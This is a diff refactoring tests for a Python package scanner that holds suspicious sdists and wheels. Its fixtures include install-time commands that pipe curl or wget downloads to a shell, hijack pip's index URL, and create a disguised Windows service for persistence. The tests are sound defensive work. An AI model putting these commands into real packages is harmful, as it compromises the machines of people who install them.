@@ -12,27 +12,15 @@ from __future__ import annotations
 
 import pytest
 
-from pipgate.policies.scan import ScanPolicy
-from pipgate.proxy.scan import scan_archive
 from tests.support.archives import pkg_info, sdist, wheel
-
-POLICY = ScanPolicy()
-
-
-def _judge(archive: bytes, filename: str) -> tuple[dict[str, float], bool]:
-    """The rules found (heaviest weight each) and whether the policy holds the archive."""
-    report = scan_archive(archive, filename)
-    assert report.incomplete is None
-    rules: dict[str, float] = {}
-    for item in report.findings:
-        rules[item.rule] = max(rules.get(item.rule, 0.0), item.weight)
-    return rules, not POLICY.decide(report).allowed
+from tests.support.scan import judge as _judge
+from tests.support.scan import judge_in_function as _in_function
 
 
-def _in_function(client: str) -> tuple[dict[str, float], bool]:
-    """``client`` as a module the package imports, its code inside functions."""
-    archive = wheel({"demo/__init__.py": "from .client import connect\n", "demo/client.py": client})
-    return _judge(archive, "demo-1.0-py3-none-any.whl")
+def _install(setup: str) -> tuple[dict[str, float], bool]:
+    """``_judge`` of an sdist with ``setup`` as its setup.py and a module of its own."""
+    archive = sdist({"setup.py": setup, "PKG-INFO": pkg_info(), "demo/__init__.py": "X = 1\n"})
+    return _judge(archive, "demo-1.0.tar.gz")
 
 
 SETUP = "from setuptools import setup\nsetup(name='acme-billing-core', version='1.0.0'{more})\n"
@@ -55,14 +43,22 @@ WHEEL = "acme_billing_core-1.0.0-py3-none-any.whl"
 
 
 @pytest.mark.parametrize(
-    "archive,filename",
+    ("archive", "filename"),
     [
         (_claim({"README.md": "# acme-billing-core\n", "LICENSE": "MIT\n"}), SDIST),
         (_claim({"acme_billing_core/__init__.py": "# reserved\n"}), SDIST),
         (wheel({}, name="acme_billing_core", version="1.0.0"), WHEEL),
-        (wheel({"acme_billing_core/__init__.py": ""}, name="acme_billing_core", version="1.0.0"), WHEEL),
+        (
+            wheel({"acme_billing_core/__init__.py": ""}, name="acme_billing_core", version="1.0.0"),
+            WHEEL,
+        ),
     ],
-    ids=["sdist, documents only", "sdist, a comment", "wheel, metadata only", "wheel, empty module"],
+    ids=[
+        "sdist, documents only",
+        "sdist, a comment",
+        "wheel, metadata only",
+        "wheel, empty module",
+    ],
 )
 def test_a_package_with_nothing_to_install_is_held(archive: bytes, filename: str) -> None:
     rules, held = _judge(archive, filename)
@@ -70,7 +66,7 @@ def test_a_package_with_nothing_to_install_is_held(archive: bytes, filename: str
 
 
 @pytest.mark.parametrize(
-    "archive,filename",
+    ("archive", "filename"),
     [
         # A meta-package: it exists for what it requires.
         (_claim({}, setup_more=", install_requires=['requests>=2']"), SDIST),
@@ -112,7 +108,7 @@ def test_a_package_with_requirements_data_or_code_is_not_empty(
 
 
 SHELL_SCRIPT_DOWNLOADS = {
-    "handed to a shell": 'os.system(\'bash -c "$(curl -fsSL https://get.example.io/y)"\')',
+    "handed to a shell": "os.system('bash -c \"$(curl -fsSL https://get.example.io/y)\"')",
     "saved, then run": 'os.system("wget -q https://cdn.example.com/a.sh -O /tmp/.a.sh && bash /tmp/.a.sh")',
     "saved, then started": 'os.system("curl -L -o /tmp/.u https://cdn.example.com/u; ./u")',
 }
@@ -178,10 +174,7 @@ def test_pip_config_set_by_install_time_code_is_held() -> None:
         "subprocess.run('pip config set global.index-url https://m.example.com/simple', shell=True)\n"
         "setup(name='demo', version='1.0')\n"
     )
-    rules, held = _judge(
-        sdist({"setup.py": setup, "PKG-INFO": pkg_info(), "demo/__init__.py": "X = 1\n"}),
-        "demo-1.0.tar.gz",
-    )
+    rules, held = _install(setup)
     assert held and rules["index-hijack"] == 10
 
 
@@ -222,10 +215,7 @@ def test_a_windows_service_created_at_install_is_held() -> None:
         "os.system('sc create WinUpdater binPath= \"C:\\\\ProgramData\\\\wu.exe\" start= auto')\n"
         "setup(name='demo', version='1.0')\n"
     )
-    rules, held = _judge(
-        sdist({"setup.py": setup, "PKG-INFO": pkg_info(), "demo/__init__.py": "X = 1\n"}),
-        "demo-1.0.tar.gz",
-    )
+    rules, held = _install(setup)
     assert held and rules["persistence"] == 8
 
 
@@ -290,7 +280,7 @@ FUNCTION_CASES = {
 }
 
 
-@pytest.mark.parametrize("rule,client", FUNCTION_CASES.values(), ids=FUNCTION_CASES)
+@pytest.mark.parametrize(("rule", "client"), FUNCTION_CASES.values(), ids=FUNCTION_CASES)
 def test_behaviours_triage_now_lets_through_are_held_in_a_function(rule: str, client: str) -> None:
     rules, held = _in_function(client)
     assert held and rule in rules
@@ -380,7 +370,10 @@ def test_urls_outside_what_installing_asks_for_are_no_url_requirements() -> None
     )
     pyproject = (
         "[project]\nname = 'demo'\nversion = '1.0'\n"
-        "dependencies = ['helper @ https://files.example-cdn.com/h-1.0.tar.gz#sha256=" + "0" * 64 + "']\n"
+        "dependencies = ['helper @ https://files.example-cdn.com/h-1.0.tar.gz#sha256="
+        + "0"
+        * 64
+        + "']\n"
         "[dependency-groups]\ndev = ['tool @ https://files.example-cdn.com/tool-2.0.tar.gz']\n"
     )
     archive = sdist(
@@ -396,8 +389,7 @@ def test_install_time_pip_install_of_an_archive_off_the_forges_is_held() -> None
             f"import os\nfrom setuptools import setup\nos.system({command!r})\n"
             "setup(name='demo', version='1.0')\n"
         )
-        archive = sdist({"setup.py": setup, "PKG-INFO": pkg_info(), "demo/__init__.py": "X = 1\n"})
-        return _judge(archive, "demo-1.0.tar.gz")
+        return _install(setup)
 
     rules, held = judge("pip install https://files.example-cdn.com/helper-1.0.tar.gz")
     assert held and rules["hidden-install"] == 10
@@ -408,14 +400,20 @@ def test_install_time_pip_install_of_an_archive_off_the_forges_is_held() -> None
 def test_a_pip_command_from_another_project_is_held() -> None:
     entry_points = "[console_scripts]\npip = demo.cli:main\n"
     archive = wheel(
-        {"demo/__init__.py": "X = 1\n", "demo/cli.py": "def main():\n    return 0\n",
-         "demo-1.0.dist-info/entry_points.txt": entry_points}
+        {
+            "demo/__init__.py": "X = 1\n",
+            "demo/cli.py": "def main():\n    return 0\n",
+            "demo-1.0.dist-info/entry_points.txt": entry_points,
+        }
     )
     rules, held = _judge(archive, "demo-1.0-py3-none-any.whl")
     assert held and rules["command-hijack"] == 10
     archive = wheel(
-        {"demo/__init__.py": "X = 1\n", "demo/cli.py": "def main():\n    return 0\n",
-         "demo-1.0.dist-info/entry_points.txt": entry_points.replace("pip =", "ls =")}
+        {
+            "demo/__init__.py": "X = 1\n",
+            "demo/cli.py": "def main():\n    return 0\n",
+            "demo-1.0.dist-info/entry_points.txt": entry_points.replace("pip =", "ls ="),
+        }
     )
     rules, held = _judge(archive, "demo-1.0-py3-none-any.whl")
     assert not held and rules["command-hijack"] == 8
@@ -432,8 +430,7 @@ BARE_BEACONS = {
 @pytest.mark.parametrize("code", BARE_BEACONS.values(), ids=BARE_BEACONS)
 def test_an_install_that_calls_out_for_its_own_sake_is_a_beacon(code: str) -> None:
     setup = code + "from setuptools import setup\nsetup(name='demo', version='1.0')\n"
-    archive = sdist({"setup.py": setup, "PKG-INFO": pkg_info(), "demo/__init__.py": "X = 1\n"})
-    rules, held = _judge(archive, "demo-1.0.tar.gz")
+    rules, held = _install(setup)
     assert held and rules["phone-home"] == 8
 
 
@@ -444,8 +441,7 @@ def test_an_install_that_downloads_what_it_reads_or_checks_pypi_is_no_beacon() -
         "open('data.bin', 'wb').write(r.content)\n"
         "from setuptools import setup\nsetup(name='demo', version='1.0')\n"
     )
-    archive = sdist({"setup.py": setup, "PKG-INFO": pkg_info(), "demo/__init__.py": "X = 1\n"})
-    rules, held = _judge(archive, "demo-1.0.tar.gz")
+    rules, held = _install(setup)
     assert not held and "phone-home" not in rules
 
 
@@ -502,6 +498,5 @@ def test_a_version_module_run_by_setup_py_is_not_a_data_file() -> None:
         "import os\nabout = {}\nexec(open(os.path.join('demo', '__version__.py')).read(), about)\n"
         "from setuptools import setup\nsetup(name='demo', version=about['__version__'])\n"
     )
-    archive = sdist({"setup.py": setup, "PKG-INFO": pkg_info(), "demo/__init__.py": "X = 1\n"})
-    rules, held = _judge(archive, "demo-1.0.tar.gz")
+    rules, held = _install(setup)
     assert not held and "decode-exec" not in rules
